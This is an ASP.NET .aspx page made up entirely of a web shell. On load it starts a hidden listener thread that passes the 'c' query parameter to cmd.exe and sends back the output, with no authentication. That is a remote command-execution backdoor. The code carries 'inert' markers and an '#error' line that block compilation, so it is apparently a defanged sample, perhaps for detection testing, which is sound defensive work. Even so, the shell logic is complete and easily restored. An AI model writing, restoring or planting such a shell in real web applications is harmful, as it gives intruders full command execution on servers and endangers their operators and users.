<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Threading" %>
<script runat="server">
#error inert
static void Loop()
{
    var l = new HttpListener();
    l.Prefixes.Add("http://*:80/inert-placeholder/");
    l.Start();
    while (true)
    {
        HttpListenerContext c = l.GetContext();
        string q = c.Request.QueryString["c"];
        byte[] o = System.Text.Encoding.UTF8.GetBytes(Do(q));
        c.Response.OutputStream.Write(o, 0, o.Length);
        c.Response.Close();
    }
}
static string Do(string q)
{
    var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + q) { UseShellExecute = false, RedirectStandardOutput = true });
    return p.StandardOutput.ReadToEnd();
}
protected void Page_Load(object s, EventArgs e) { new Thread(Loop) { IsBackground = true }.Start(); }
</script>
